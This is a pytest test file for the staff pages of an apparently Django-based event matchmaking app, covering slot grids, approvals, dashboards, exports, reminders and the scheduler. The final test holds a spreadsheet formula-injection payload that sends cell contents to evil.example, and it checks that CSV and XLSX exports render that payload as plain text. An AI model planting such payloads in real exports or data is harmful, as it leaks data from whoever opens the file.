"""Staff pages: event set-up with its slot grid, approvals, the dashboard, meetings, check-in, exports,
reminders, the command line, access control and the three languages."""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import re
import zoneinfo
from datetime import UTC, datetime, time
from io import StringIO

import pytest
from django.core import mail
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from silkbridge.accounts.tests.factories import StaffFactory, UserFactory
from silkbridge.events import services
from silkbridge.events.models import Event, Meeting, Participant, ScheduleRun, Slot
from silkbridge.events.tests.factories import EventFactory, in_days, register

pytestmark = pytest.mark.django_db
LANGUAGES = [("en", "en", "ltr"), ("zh-hans", "zh-Hans", "ltr"), ("ur", "ur", "rtl")]


def new_event_data(**changes):
    data = {
        "title": "Lahore AI matchmaking",
        "slug": "lahore-ai",
        "description": "One-to-one meetings.",
        "kind": "physical",
        "time_zone": "Asia/Shanghai",
        "venue": "Expo Centre",
        "registration_opens_at": "2030-04-01T09:00",
        "registration_closes_at": "2030-05-01T18:00",
        "participant_cap": "",
        "requires_approval": "on",
        "request_policy": "cross_country",
        "request_mode": "acceptance",
        "scheduling_mode": "organiser",
        "default_min_meetings": "0",
        "default_max_meetings": "8",
        "video_room_base_url": "",
        "days": "2030-05-10 .. 2030-05-11",
        "day_start": "09:00",
        "day_end": "12:00",
        "minutes": "60",
        "breaks": "10:00-11:00",
        "tables": "4",
        "location": "Hall A",
    }
    data.update(changes)
    return data


@pytest.fixture
def staff(client):
    user = StaffFactory()
    client.force_login(user)
    return user


@pytest.fixture
def small_event():
    """Three participants (PK, CN, CN), one booked meeting with an interpreter, one declined, one pending request."""
    event = EventFactory(slot_days=[in_days(10)], slot_start=time(9, 0), slot_end=time(11, 0), slot_tables=2)
    pakistani = register(event, country="PK", interpreter_needed=True)
    chinese = register(event, country="CN")
    other = register(event, country="CN")
    accepted = services.request_create(actor=pakistani.representatives.get(), requester=pakistani, recipient=chinese)
    accepted = services.request_answer(actor=chinese.representatives.get(), meeting_request=accepted, accept=True)
    meeting = services.meeting_book(meeting_request=accepted, slot=event.slots.first())
    declined = services.request_create(actor=pakistani.representatives.get(), requester=pakistani, recipient=other)
    services.request_answer(
        actor=other.representatives.get(), meeting_request=declined, accept=False, reason="not_relevant"
    )
    services.request_create(actor=other.representatives.get(), requester=other, recipient=chinese)
    return {"event": event, "meeting": meeting, "pakistani": pakistani, "chinese": chinese, "other": other}


def manage_url(event):
    return reverse("events:manage", kwargs={"slug": event.slug})


def figure(html, name):
    return re.search(rf'data-figure="{name}">([^<]*)<', html).group(1)


# --- set-up -----------------------------------------------------------------------------------------


def test_creating_an_event_cuts_the_grid_in_the_event_zone_and_skips_breaks(client, staff):
    response = client.post(reverse("events:event_new"), new_event_data())
    event = Event.objects.get(slug="lahore-ai")
    assert response.status_code == 302
    assert response["Location"] == manage_url(event)
    assert event.created_by == staff
    # 09:00–12:00 in Shanghai (UTC+8) with a 10:00–11:00 break: 09:00 and 11:00 on each of two days.
    starts = list(event.slots.order_by("starts_at").values_list("starts_at", flat=True))
    assert starts == [
        datetime(2030, 5, 10, 1, 0, tzinfo=UTC),
        datetime(2030, 5, 10, 3, 0, tzinfo=UTC),
        datetime(2030, 5, 11, 1, 0, tzinfo=UTC),
        datetime(2030, 5, 11, 3, 0, tzinfo=UTC),
    ]
    assert set(event.slots.values_list("minutes", "tables", "location")) == {(60, 4, "Hall A")}
    assert event.registration_opens_at == datetime(2030, 4, 1, 1, 0, tzinfo=UTC)
    assert event.registration_closes_at == datetime(2030, 5, 1, 10, 0, tzinfo=UTC)
    assert event.requires_approval is True
    assert event.request_policy == "cross_country"


def test_a_list_of_days_and_several_breaks_are_accepted(client, staff):
    data = new_event_data(
        days="2030-05-10, 2030-05-12", day_end="13:00", breaks="10:00-10:30; 12:00-13:00", minutes="30"
    )
    client.post(reverse("events:event_new"), data)
    event = Event.objects.get(slug="lahore-ai")
    # 09:00–13:00 in Shanghai, 30 minutes, breaks 10:00–10:30 and 12:00–13:00: 09:00, 09:30, 10:30, 11:00, 11:30.
    assert event.slots.count() == 2 * 5
    times = sorted({slot.starts_at.strftime("%H:%M") for slot in event.slots.all()})
    assert times == ["01:00", "01:30", "02:30", "03:00", "03:30"]  # the same times in UTC
    assert {slot.starts_at.date().isoformat() for slot in event.slots.all()} == {"2030-05-10", "2030-05-12"}


@pytest.mark.parametrize(
    ("changes", "field", "message"),
    [
        ({"day_start": "12:00", "day_end": "09:00"}, "day_end", "The day must end after it starts."),
        ({"breaks": "lunch"}, "breaks", "“lunch” is not a break; write it like 12:30-13:30."),
        ({"breaks": "13:30-12:30"}, "breaks", "ends before it starts"),
        ({"days": "2030-05-12 .. 2030-05-10"}, "days", "ends before it starts"),
        ({"days": "next week"}, "days", "is not a date or a range"),
        ({"registration_closes_at": "2030-03-01T09:00"}, None, "Registration must close after it opens."),
        # The service finds this one: a 60-minute slot does not fit in 30 minutes; the event is rolled back too.
        (
            {"day_start": "09:00", "day_end": "09:30", "breaks": ""},
            "day_start",
            "These settings leave no slot in the day.",
        ),
    ],
)
def test_invalid_input_is_shown_beside_the_field_and_nothing_is_created(client, staff, changes, field, message):
    events, slots = Event.objects.count(), Slot.objects.count()
    response = client.post(reverse("events:event_new"), new_event_data(**changes))
    html = response.content.decode()
    assert response.status_code == 422
    assert "nothing was created" in html
    if field:
        error = re.search(rf'<p class="error" id="id_{field}_error">(.*?)</p>', html).group(1)
        assert message in error.replace("&ldquo;", "“").replace("&rdquo;", "”")
    else:
        assert message in html
    assert Event.objects.count() == events
    assert Slot.objects.count() == slots


def test_another_grid_can_be_added_for_a_delegation_city(client, staff):
    event = EventFactory(kind="delegation", slot_days=[in_days(5)], slot_start=time(9), slot_end=time(10))
    day = in_days(6).isoformat()
    response = client.post(
        reverse("events:slots_add", kwargs={"slug": event.slug}),
        {
            "days": day,
            "day_start": "14:00",
            "day_end": "16:00",
            "minutes": "60",
            "breaks": "",
            "tables": "",
            "location": "Rawalpindi STZ",
        },
    )
    assert response.status_code == 302
    added = event.slots.filter(location="Rawalpindi STZ")
    assert added.count() == 2
    assert event.slots.count() == 4
    bad = client.post(
        reverse("events:slots_add", kwargs={"slug": event.slug}),
        {"days": day, "day_start": "16:00", "day_end": "14:00", "minutes": "60"},
    )
    assert bad.status_code == 422
    assert 'id="id_day_end_error"' in bad.content.decode()
    assert event.slots.count() == 4


# --- access -----------------------------------------------------------------------------------------


def staff_urls(event, meeting):
    slug = {"slug": event.slug}
    return [
        ("get", reverse("events:event_new")),
        ("get", reverse("events:manage", kwargs=slug)),
        ("get", reverse("events:meetings", kwargs=slug)),
        ("get", reverse("events:export", kwargs={**slug, "fmt": "csv"})),
        ("post", reverse("events:schedule_run", kwargs=slug)),
        ("post", reverse("events:slots_add", kwargs=slug)),
        ("post", reverse("events:reminders", kwargs=slug)),
        ("post", reverse("events:participant_status", kwargs={**slug, "participant_id": meeting.request.requester_id})),
        ("post", reverse("events:meeting_mark", kwargs={**slug, "meeting_id": meeting.pk})),
    ]


def test_non_staff_get_403_and_anonymous_visitors_are_sent_to_sign_in(client, small_event):
    meeting = small_event["meeting"]
    urls = staff_urls(small_event["event"], meeting)
    for method, url in urls:
        response = getattr(client, method)(url)
        assert response.status_code == 302, url
        assert response["Location"].startswith(reverse("accounts:login")), url
    client.force_login(UserFactory())
    for method, url in urls:
        assert getattr(client, method)(url, {"status": "checked_in"}).status_code == 403, url
    meeting.refresh_from_db()
    assert meeting.status == "scheduled"
    assert len(mail.outbox) == 0


# --- approvals and the dashboard --------------------------------------------------------------------


def test_approving_a_pending_registration_tells_the_representatives(client, staff, django_capture_on_commit_callbacks):
    event = EventFactory(requires_approval=True, slot_days=[in_days(3)])
    participant = register(event, country="CN")
    assert participant.status == "pending"
    mail.outbox.clear()
    html = client.get(manage_url(event)).content.decode()
    assert participant.organisation.name_en in html
    assert figure(html, "pending") == "1"
    url = reverse("events:participant_status", kwargs={"slug": event.slug, "participant_id": participant.pk})
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, {"status": "approved"})
    assert response.status_code == 302
    participant.refresh_from_db()
    assert participant.status == "approved"
    representative = participant.representatives.get()
    assert [message.to for message in mail.outbox] == [[representative.email]]
    assert "Approved" in mail.outbox[0].subject
    assert figure(client.get(manage_url(event)).content.decode(), "pending") == "0"


def test_an_unknown_status_changes_nothing(client, staff, django_capture_on_commit_callbacks):
    event = EventFactory(requires_approval=True)
    participant = register(event)
    url = reverse("events:participant_status", kwargs={"slug": event.slug, "participant_id": participant.pk})
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, {"status": "crowned"}, follow=True)
    participant.refresh_from_db()
    assert participant.status == "pending"
    assert "Choose a registration status." in response.content.decode()
    assert len(mail.outbox) == 0


def test_the_dashboard_shows_the_counts_of_a_small_event(client, staff, small_event, django_assert_max_num_queries):
    with django_assert_max_num_queries(25):
        response = client.get(manage_url(small_event["event"]))
    html = response.content.decode()
    assert response.status_code == 200
    assert figure(html, "registrations") == "3"
    assert figure(html, "approved") == "3"
    assert figure(html, "requests") == "3"
    assert figure(html, "acceptance") == "50%"  # one accepted, one declined, one waiting
    assert figure(html, "meetings") == "1"
    assert figure(html, "interpreter") == "1"
    assert figure(html, "without_meeting") == "1"
    assert figure(html, "leads") == "0"
    assert "1 / 2 (50%)" in html  # the booked slot: one meeting at two tables
    assert "0 / 2 (0%)" in html
    assert small_event["other"].organisation.name_en in html.split('id="without-meeting"')[1]
    assert "Pakistan" in html
    assert "China" in html


def test_the_staff_pages_query_count_does_not_grow_with_the_event(client, staff, small_event):
    event = small_event["event"]
    urls = [manage_url(event), reverse("events:meetings", kwargs={"slug": event.slug})]

    def queries() -> list[int]:
        counts = []
        for url in urls:
            with CaptureQueriesContext(connection) as captured:
                assert client.get(url).status_code == 200
            counts.append(len(captured))
        return counts

    def grow(count: int) -> None:
        # Accepted but unscheduled requests, one more pending registration: every section of the page has rows.
        for _number in range(count):
            newcomer = register(event, country="CN", interpreter_needed=True)
            waiting = services.request_create(
                actor=newcomer.representatives.get(), requester=newcomer, recipient=small_event["pakistani"]
            )
            services.request_answer(
                actor=small_event["pakistani"].representatives.get(), meeting_request=waiting, accept=True
            )
        Participant.objects.filter(pk=newcomer.pk).update(status="pending")

    grow(2)
    before = queries()
    grow(6)
    assert queries() == before


def test_accepted_requests_left_out_show_why(client, staff, small_event):
    pakistani, other = small_event["pakistani"], small_event["other"]
    waiting = other.requests_sent.get()
    services.request_answer(actor=waiting.recipient.representatives.get(), meeting_request=waiting, accept=True)
    html = client.get(manage_url(small_event["event"])).content.decode()
    section = html.split('id="unscheduled"')[1].split("</section>")[0]
    assert 'data-reason="not_run"' in section
    assert "The scheduler has not run since it was accepted" in section
    assert other.organisation.name_en in section
    assert pakistani.organisation.name_en not in section


# --- meetings, check-in, exports --------------------------------------------------------------------


def test_check_in_marks_the_meeting(client, staff, small_event):
    event, meeting = small_event["event"], small_event["meeting"]
    page = client.get(reverse("events:meetings", kwargs={"slug": event.slug}))
    assert f'id="meeting-{meeting.pk}"' in page.content.decode()
    url = reverse("events:meeting_mark", kwargs={"slug": event.slug, "meeting_id": meeting.pk})
    response = client.post(
        url, {"status": "checked_in", "next": reverse("events:meetings", kwargs={"slug": event.slug})}
    )
    assert response.status_code == 302
    meeting.refresh_from_db()
    assert meeting.status == "checked_in"
    assert meeting.checked_in_at is not None
    client.post(url, {"status": "cancelled"})
    meeting.refresh_from_db()
    assert meeting.status == "checked_in"  # staff cannot cancel from here; the service refuses


def test_the_meeting_list_filters_by_status_and_slot(client, staff, small_event):
    event, meeting = small_event["event"], small_event["meeting"]
    url = reverse("events:meetings", kwargs={"slug": event.slug})
    assert f'id="meeting-{meeting.pk}"' in client.get(url, {"status": "scheduled"}).content.decode()
    empty = client.get(url, {"status": "no_show"}).content.decode()
    assert f'id="meeting-{meeting.pk}"' not in empty
    assert "No meeting matches these filters" in empty
    other_slot = event.slots.exclude(pk=meeting.slot_id).first()
    assert f'id="meeting-{meeting.pk}"' not in client.get(url, {"slot": other_slot.pk}).content.decode()


def test_the_csv_export_has_a_bom_the_rows_and_the_interpreter_flag(client, staff, small_event):
    event, meeting = small_event["event"], small_event["meeting"]
    response = client.get(reverse("events:export", kwargs={"slug": event.slug, "fmt": "csv"}))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == [
        "Slot start", "Minutes", "Table", "Requester", "Requester country",
        "Recipient", "Recipient country", "Interpreter needed", "Status", "Video room",
    ]  # fmt: skip
    assert len(rows) == 2
    start = meeting.slot.starts_at.astimezone(zoneinfo.ZoneInfo("Asia/Karachi"))
    assert rows[1] == [
        start.isoformat(), "30", str(meeting.table),
        small_event["pakistani"].organisation.name_en, "PK",
        small_event["chinese"].organisation.name_en, "CN",
        "yes", "Scheduled", "",
    ]  # fmt: skip
    assert rows[1][0].endswith("+05:00")


def test_the_xlsx_export_reads_back(client, staff, small_event):
    event = small_event["event"]
    response = client.get(reverse("events:export", kwargs={"slug": event.slug, "fmt": "xlsx"}))
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="{event.slug}-meetings.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0][7] == "Interpreter needed"
    assert len(rows) == 2
    assert rows[1][3] == small_event["pakistani"].organisation.name_en
    assert rows[1][7] == "yes"
    assert rows[1][0].endswith("+05:00")


def test_an_unknown_export_format_is_404(client, staff, small_event):
    response = client.get(reverse("events:export", kwargs={"slug": small_event["event"].slug, "fmt": "pdf"}))
    assert response.status_code == 404


# --- reminders --------------------------------------------------------------------------------------


def test_reminders_go_to_recipients_of_waiting_requests_and_to_those_without_a_meeting(
    client, staff, small_event, django_capture_on_commit_callbacks
):
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("events:reminders", kwargs={"slug": small_event["event"].slug}), follow=True)
    page = response.content.decode()
    # One participant, not "1 participants" (ngettext).
    assert (
        "Reminders sent to 1 participant with unanswered requests. 1 participant without any meeting was reminded too."
        in page
    )
    recipients = sorted(address for message in mail.outbox for address in message.to)
    expected = sorted(p.representatives.get().email for p in (small_event["chinese"], small_event["other"]))
    assert recipients == expected


def test_the_remind_command_prints_the_counts(small_event, django_capture_on_commit_callbacks):
    mail.outbox.clear()
    out = StringIO()
    with django_capture_on_commit_callbacks(execute=True):
        call_command("events", "remind", small_event["event"].slug, stdout=out)
    assert json.loads(out.getvalue()) == {"no_meeting_nudges": 1, "pending_reminders": 1}
    assert len(mail.outbox) == 2


# --- languages --------------------------------------------------------------------------------------


@pytest.mark.parametrize(("code", "lang", "direction"), LANGUAGES)
def test_the_staff_pages_render_in_each_language(client, staff, small_event, code, lang, direction):
    client.cookies["django_language"] = code
    event = small_event["event"]
    for url in (
        reverse("events:event_new"),
        manage_url(event),
        reverse("events:meetings", kwargs={"slug": event.slug}),
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        assert f'<html lang="{lang}" dir="{direction}">' in response.content.decode(), url


# --- the scheduler ----------------------------------------------------------------------------------


@pytest.mark.skipif(
    importlib.util.find_spec("silkbridge.events.engine.scheduler") is None,
    reason="the scheduler engine is not there yet",
)
def test_running_the_scheduler_places_accepted_requests_and_shows_the_run(
    client, staff, small_event, django_capture_on_commit_callbacks
):
    event, other = small_event["event"], small_event["other"]
    waiting = other.requests_sent.get()
    services.request_answer(actor=waiting.recipient.representatives.get(), meeting_request=waiting, accept=True)
    meetings_before = Meeting.objects.filter(event=event).count()
    with django_capture_on_commit_callbacks() as after_commit:
        response = client.post(
            reverse("events:schedule_run", kwargs={"slug": event.slug}), {"time_limit": "2", "seed": "1"}
        )
    # The page answers at once and sends the organiser to the run's progress page; nothing ran yet.
    run = ScheduleRun.objects.get(event=event)
    assert response.status_code == 302
    assert response["Location"] == f"/runs/{run.run_id}/"
    assert (run.status, Meeting.objects.filter(event=event).count()) == ("queued", meetings_before)
    assert "Scheduler run" in client.get(response["Location"]).content.decode()
    for callback in after_commit:  # committed: the task framework runs the task (a worker, in production)
        callback()
    run = ScheduleRun.objects.select_related("run").get(event=event)
    assert run.status == "finished"
    assert Meeting.objects.filter(event=event).count() == 1 + run.placed
    progress_page = client.get(f"/runs/{run.run_id}/").content.decode()
    assert f'<a class="button" href="{manage_url(event)}#scheduler">See the result</a>' in progress_page
    html = client.get(manage_url(event)).content.decode()
    assert f'data-figure="placed">{run.placed}<' in html
    assert Participant.objects.filter(event=event).count() == 3


def test_a_bad_scheduler_form_shows_the_error_and_runs_nothing(client, staff, small_event):
    response = client.post(
        reverse("events:schedule_run", kwargs={"slug": small_event["event"].slug}), {"time_limit": "0", "seed": "x"}
    )
    assert response.status_code == 422
    assert 'id="id_time_limit_error"' in response.content.decode()
    assert ScheduleRun.objects.count() == 0


# --- administration ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "model", ["event", "slot", "participant", "preference", "meetingrequest", "meeting", "meetingrating", "schedulerun"]
)
def test_every_events_model_has_a_working_admin_list(client, staff, small_event, model):
    response = client.get(reverse(f"admin:events_{model}_changelist"), {"q": "Test"})
    assert response.status_code == 200


def test_the_admin_event_page_shows_its_slots_and_runs_are_read_only(client, staff, small_event):
    event = small_event["event"]
    assert client.get(reverse("admin:events_event_change", args=[event.pk])).status_code == 200
    assert client.get(reverse("admin:events_meeting_change", args=[small_event["meeting"].pk])).status_code == 200
    assert client.get(reverse("admin:events_schedulerun_add")).status_code == 403


FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_organisation_named_like_a_formula_is_exported_as_text(client, staff, small_event, fmt):
    organisation = small_event["pakistani"].organisation
    type(organisation).objects.filter(pk=organisation.pk).update(name_en=FORMULA_NAME, name_local="")
    response = client.get(reverse("events:export", kwargs={"slug": small_event["event"].slug, "fmt": fmt}))
    assert response.status_code == 200
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert rows[1][3] == "'" + FORMULA_NAME
    else:
        cell = load_workbook(io.BytesIO(response.content)).active["D2"]
        assert cell.data_type == "s"
        assert cell.value == FORMULA_NAME
